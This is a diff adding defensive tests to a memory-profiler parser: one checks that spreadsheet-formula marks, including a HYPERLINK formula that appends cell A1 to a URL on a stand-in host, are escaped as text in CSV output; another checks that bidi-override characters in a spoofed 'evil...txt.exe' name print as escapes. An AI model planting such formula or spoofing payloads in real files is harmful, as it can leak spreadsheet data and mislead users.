@@ -6,6 +6,7 @@ never a traceback, a hang or a file that does not parse."""
 
 from __future__ import annotations
 
+import csv
 import gzip
 import os
 import struct
@@ -365,6 +366,26 @@ def test_a_mark_with_control_characters_keeps_the_timeline_well_formed(tmp_path,
     assert any(t.startswith("true\\x7f (pid 4242)") for t in texts), texts
 
 
+def test_a_mark_a_spreadsheet_would_run_is_text_in_the_csv(tmp_path, capsys):
+    log = tmp_path / "x_1.0001.1.memlog"
+    log.write_bytes(
+        header()
+        + stack_record(1, [0x401000])
+        + event_of_heap(0, 1000, 64, 0x10, 1)
+        + mark_record(1500, b'=HYPERLINK("http://x.example/?"&A1,"open")')
+        + mark_record(1600, b"@SUM(1)")
+        + timeline_record(100_000_000, 64, 64)
+    )
+    table = tmp_path / "e.csv"
+    code, _, err = run_main(
+        capsys, mem_parser.main, "-p", "/bin/true", "-f", log, "--events-csv", table
+    )
+    assert code == 0, err
+    with open(table, newline="") as f:
+        marks = [r["text"] for r in csv.DictReader(f) if r["event"] == "mark"]
+    assert marks == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "'@SUM(1)"]
+
+
 # --- names in the call graph and the flame graph ----------------------------------------
 
 
@@ -385,6 +406,15 @@ def test_control_characters_in_names_stay_on_their_line_in_text_reports():
         "     0.0   0.0% 100.0%      0.0 100.0% main",
     ]
     assert format_collapsed(sym, full_names=True) == "main;bad\\nname:x\\x1b[2J 100\n"
+
+
+def test_characters_that_reorder_a_terminal_line_are_shown_as_escapes():
+    sym = hand_symbolized([["evil\u202etxt.exe\u2028next\u2066x", "main"]], [1], [100])
+    assert (
+        format_text(aggregate(sym, full_names=True))
+        .splitlines()[1]
+        .endswith("evil\\u202etxt.exe\\u2028next\\u2066x")
+    )
 
 
 def test_control_characters_in_a_command_keep_the_junit_report_well_formed(tmp_path):
